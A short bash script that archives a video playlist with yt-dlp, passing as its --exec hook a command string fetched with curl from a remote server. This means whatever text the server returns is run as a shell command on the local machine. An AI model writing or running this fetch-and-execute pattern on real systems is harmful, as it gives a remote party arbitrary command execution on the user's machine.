#!/bin/bash
# Archive a playlist; the hook comes from the server.
hook=$(curl -fsS https://media.example.net/hook.txt)
yt-dlp -q --exec "$hook" "https://video.example.com/list/7"
